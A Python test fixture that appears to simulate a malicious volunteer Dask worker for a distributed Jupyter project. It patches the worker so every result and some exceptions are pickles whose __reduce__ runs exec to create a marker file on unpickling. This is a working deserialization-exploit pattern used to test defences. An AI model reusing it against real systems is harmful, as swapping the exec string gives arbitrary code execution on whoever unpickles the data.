"""A malicious volunteer, as a Dask worker preload: every result it sends is a pickle that would create a
file when unpickled, and a cell containing EVIL_RAISE raises an exception whose unpickling would too.

The file is named after the process that unpickles it: Dask's worker checks that an exception round-trips
through pickle before sending it, so the volunteer's own worker creating one is expected (and harmless to
anyone else); the kernel or the coordinator creating one is the attack succeeding."""

import os
import pickle

TARGET = os.environ["DEPIN_EVIL_TARGET"]


def _touch(kind):
    # runs when unpickled: names the file after the process that unpickled it
    return (exec, (f"import os; open({TARGET!r} + '.{kind}.' + str(os.getpid()), 'w').close()",))


class Boom:
    def __reduce__(self):
        return _touch("payload")


class EvilError(Exception):
    def __reduce__(self):
        return _touch("exception")


def dask_setup(worker):
    from depin_jupyter.worker import execute as remote
    from depin_jupyter.worker import relayed as relay
    from depin_jupyter.worker import sandbox

    real_run = remote.run_cell

    def run_cell(spec, inputs):
        if "EVIL_RAISE" in spec["code"]:
            raise EvilError("boom")
        return real_run(spec, inputs)

    remote.run_cell = run_cell
    relay.to_payload = lambda result: pickle.dumps(Boom())

    def run_sandboxed(spec, inputs, **kwargs):  # the sandboxed path: the worker is the volunteer's to change
        if "EVIL_RAISE" in spec["code"]:
            raise EvilError("boom")
        return pickle.dumps(Boom())

    sandbox.run_sandboxed = run_sandboxed
